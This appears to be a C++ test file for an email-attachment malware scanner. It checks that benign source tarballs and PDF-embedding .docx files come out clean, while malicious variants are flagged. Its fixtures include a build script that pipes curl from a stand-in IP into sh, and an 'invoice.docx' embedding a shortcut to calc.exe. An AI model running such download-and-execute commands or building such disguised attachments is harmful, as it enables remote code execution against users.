// Hard negatives of issue 17 through the whole engine, each next to its positive: a source tarball
// with a build script mailed between developers; a .docx whose embedded OLE package is a PDF (the
// TNEF-wrapped package is in tnef_test.cc).
#include <gtest/gtest.h>

#include "scan/detectors/office/ole_file.h"
#include "scan/engine.h"
#include "scan_test_util.h"

namespace airlock::scan {
namespace {

using test::Scan;

std::string SourceTarball(const std::string& build_sh) {
  return test::MakeArchive("tar.gz", {{"libfoo-1.2/README", "libfoo: a small parser.\n"},
                                      {"libfoo-1.2/src/foo.c", "int foo(void) { return 42; }\n"},
                                      {"libfoo-1.2/Makefile", "all:\n\tcc -c src/foo.c\n"},
                                      {"libfoo-1.2/build.sh", build_sh, 0755}});
}

TEST(HardNegatives, MailedSourceTarballWithBuildScriptIsClean) {
  const std::string sh = "#!/bin/sh\nset -e\nmkdir -p out\ncc -O2 -o out/foo.o -c src/foo.c\necho done\n";
  InputReport r = Scan("mail.eml", test::MakeMail("Hi, here is the release tarball.\n", "libfoo-1.2.tar.gz", SourceTarball(sh)));
  const ObjectReport* o = test::FindWithFinding(r.root, "name.executable_in_mail");
  ASSERT_NE(o, nullptr);
  EXPECT_EQ(o->findings.front().severity, 3);
  EXPECT_NE(o->findings.front().title.find("source tree"), std::string::npos);
  EXPECT_EQ(r.root.assessment.verdict, Verdict::kClean) << r.root.assessment.score;
}

TEST(HardNegatives, MailedSourceTarballWhoseBuildScriptDownloadsAndRunsIsMalicious) {
  const std::string sh = "#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | sh\n";
  InputReport r = Scan("mail.eml", test::MakeMail("Hi, here is the release tarball.\n", "libfoo-1.2.tar.gz", SourceTarball(sh)));
  EXPECT_NE(test::FindWithFinding(r.root, "script.download_exec"), nullptr);
  EXPECT_EQ(r.root.assessment.verdict, Verdict::kMalicious);
}

TEST(HardNegatives, LoneShellScriptInMailStaysSuspicious) {
  InputReport r = Scan("mail.eml", test::MakeMail("Run this.\n", "fix.sh", "#!/bin/sh\necho hi\n"));
  EXPECT_EQ(r.root.assessment.verdict, Verdict::kSuspicious) << r.root.assessment.score;
}

// An OLE Package inside a .docx (word/embeddings/oleObject1.bin), as Word writes an inserted file:
// a shortcut that starts calc is malicious through the whole chain; a PDF in the same place is clean.
std::string DocxWithPackage(const std::string& label, const std::string& content) {
  std::string body;
  auto le16 = [&](uint16_t v) { body += static_cast<char>(v & 0xFF), body += static_cast<char>(v >> 8); };
  auto le32 = [](std::string& s, uint32_t v) {
    for (int i = 0; i < 4; ++i) s.push_back(static_cast<char>((v >> (8 * i)) & 0xFF));
  };
  le16(2);
  body += label + '\0' + "C:\\Users\\a\\" + label + '\0';
  le16(0);
  le16(3);
  const std::string tmp = "C:\\Temp\\" + label + '\0';
  le32(body, static_cast<uint32_t>(tmp.size()));
  body += tmp;
  le32(body, static_cast<uint32_t>(content.size()));
  body += content;
  std::string native;
  le32(native, static_cast<uint32_t>(body.size()));
  const std::string ole = office::WriteOle({{"\x01Ole10Native", native + body}});
  const std::string doc =
      "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
      "<w:body><w:p><w:r><w:t>See the embedded file.</w:t></w:r></w:p></w:body></w:document>";
  return test::MakeArchive("zip", {{"[Content_Types].xml", "<Types/>"}, {"word/document.xml", doc},
                                   {"word/embeddings/oleObject1.bin", ole}});
}

TEST(HardNegatives, DocxEmbeddingAShortcutIsMaliciousAndAPdfIsClean) {
  std::string lnk("L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 20);
  lnk += std::string(60, '\0') + "C:\\Windows\\System32\\calc.exe";
  InputReport bad = Scan("mail.eml", test::MakeMail("Invoice inside.", "invoice.docx", DocxWithPackage("invoice.lnk", lnk)));
  EXPECT_NE(test::FindWithFinding(bad.root, "office.ole.package"), nullptr);
  EXPECT_EQ(bad.root.assessment.verdict, Verdict::kMalicious) << bad.root.assessment.score;
  const std::string pdf = "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages "
                          "/Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";
  InputReport ok = Scan("mail.eml", test::MakeMail("Invoice inside.", "invoice.docx", DocxWithPackage("invoice.pdf", pdf)));
  EXPECT_EQ(ok.root.assessment.verdict, Verdict::kClean) << ok.root.assessment.score;
}

}  // namespace
}  // namespace airlock::scan
